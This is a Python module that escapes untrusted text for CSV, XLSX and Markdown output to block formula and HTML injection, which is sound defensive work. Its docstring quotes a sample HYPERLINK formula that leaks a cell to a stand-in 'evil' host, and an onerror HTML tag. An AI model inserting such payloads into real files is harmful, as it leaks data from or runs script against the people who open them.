"""Neutralise untrusted text before it lands in a spreadsheet or a Markdown file.

Registry records (titles, sponsors, collaborators) and user manifests (cohort names, lesion
ids) are untrusted text. Written raw into a CSV or XLSX file, a cell such as
``=HYPERLINK("http://evil/?leak="&A1, "click")`` becomes a live formula when the file is
opened in Excel or LibreOffice (OWASP "CSV injection"); written raw into a Markdown table,
``<img src=x onerror=...>`` becomes live HTML wherever the Markdown is rendered, and a ``|``
breaks the table.

Rules (one place, used by every CSV/XLSX/Markdown writer of both halves):

- **Spreadsheet cells** (CSV and XLSX): a *text* cell whose first character is one of
  :data:`FORMULA_TRIGGERS` (``=``, ``+``, ``-``, ``@``, tab, carriage return) gets a single
  quote prepended, as OWASP recommends; spreadsheets then show it as text. Numbers are never
  touched: numeric columns keep their dtype, and a float/int inside an object column stays a
  number. A text cell that is *exactly* a plain decimal number (``"-3.5"``, ``"+2"``,
  ``"-1e-3"``) is left as it is: a spreadsheet reads it as that same number, which no formula
  can hide behind, and quoting it would turn a number into text. Anything else starting with a
  trigger (``"-2+3"``, ``"-"``, ``"@SUM(A1)"``) is quoted. Column and index labels follow the
  same rule.
- **CSV structure**: a text cell holding a carriage return is quoted. Python's CSV writer only
  quotes the characters of its line terminator, so with ``\n`` line ends a bare CR would be
  written unquoted and a spreadsheet would start a new row there (where ``=...`` could follow);
  :func:`write_csv` then ends lines with CRLF (RFC 4180), which makes the writer quote CRs.
- **XLSX**: control characters that the XLSX format cannot hold (openpyxl refuses them, and the
  whole table would fail) become U+FFFD.
- **Markdown cells**: HTML special characters are escaped (``&``, ``<``, ``>``), backslashes,
  ``|``, ``[`` and ``]`` are backslash-escaped (no broken tables, no ``javascript:`` links),
  and line breaks become spaces (a newline would end the table row).

Readers are not affected: importing the registry's own CSV layout reads cells verbatim, and
:func:`irtscope.trials.studies_to_registry_csv` (an interchange file for that reader, not a
spreadsheet export) writes them verbatim so a round trip is lossless.
"""

from __future__ import annotations

import html
import re
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = [
    "FORMULA_TRIGGERS",
    "markdown_cell",
    "markdown_frame",
    "safe_cell",
    "safe_frame",
    "write_csv",
]

#: First characters that make a spreadsheet evaluate a cell as a formula (OWASP list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# A plain decimal number, as a spreadsheet would read it: optional sign, digits with an
# optional fraction (or a bare fraction), optional exponent; nothing else.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

_MARKDOWN_ESCAPES = str.maketrans({"\\": "\\\\", "|": "\\|", "[": "\\[", "]": "\\]"})


def safe_cell(value: Any) -> Any:
    """Return ``value`` ready for a CSV/XLSX cell: formula-like text quoted, all else as is.

    Only ``str`` values change; numbers, booleans, dates and missing values pass through
    unchanged, so numeric data stays numeric.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def _safe_labels(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return index.set_levels([_safe_labels(level) for level in index.levels])
    if index.dtype == object or pd.api.types.is_string_dtype(index.dtype):
        return index.map(safe_cell)
    return index


def _text_columns(frame: pd.DataFrame) -> list[Any]:
    """Columns that can hold text: object, string and categorical dtypes."""
    return [
        column
        for column, dtype in frame.dtypes.items()
        if pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    ]


def _xlsx_cell(value: Any) -> Any:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = safe_cell(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return value


def safe_frame(frame: pd.DataFrame, *, xlsx: bool = False) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and labels are safe for CSV/XLSX (see module doc).

    Numeric, boolean and datetime columns are left untouched (same dtype, same values); text
    columns are mapped cell by cell with :func:`safe_cell`; categorical columns become object
    columns (their categories may need quoting). ``xlsx=True`` also replaces the control
    characters an XLSX sheet cannot store.
    """
    cell = _xlsx_cell if xlsx else safe_cell
    out = frame.copy()
    for column in _text_columns(out):
        series = out[column]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        out[column] = series.map(cell, na_action="ignore")
    out.columns = _safe_labels(out.columns)
    out.index = _safe_labels(out.index)
    return out


def write_csv(frame: pd.DataFrame, path: str | Path, **kwargs: Any) -> Path:
    """``frame.to_csv(path, **kwargs)`` after :func:`safe_frame`; the one CSV writer to use.

    Lines end with ``\n`` unless a text cell holds a carriage return (then CRLF, so that the
    CR is quoted; see the module docstring).
    """
    path = Path(path)
    safe = safe_frame(frame)
    if "lineterminator" not in kwargs and _has_carriage_return(safe):
        kwargs["lineterminator"] = "\r\n"
    safe.to_csv(path, **kwargs)
    return path


def _has_carriage_return(frame: pd.DataFrame) -> bool:
    labels = [*map(str, frame.columns), *(map(str, frame.index) if frame.index.dtype == object
                                          else [])]
    if any("\r" in label for label in labels):
        return True
    return any(
        frame[column].map(lambda v: isinstance(v, str) and "\r" in v).any()
        for column in _text_columns(frame)
    )


def markdown_cell(value: Any) -> Any:
    """Return ``value`` ready for a Markdown table cell (text escaped, numbers as is)."""
    if not isinstance(value, str):
        return value
    text = html.escape(value, quote=False).translate(_MARKDOWN_ESCAPES)
    return " ".join(text.splitlines()) if ("\n" in text or "\r" in text) else text


def markdown_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and label escaped for a Markdown table."""
    out = frame.copy()
    for column in _text_columns(out):
        series = out[column]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        out[column] = series.map(markdown_cell, na_action="ignore")
    out.columns = out.columns.map(lambda c: markdown_cell(str(c)) if isinstance(c, str) else c)
    if out.index.dtype == object:
        out.index = out.index.map(markdown_cell)
    return out
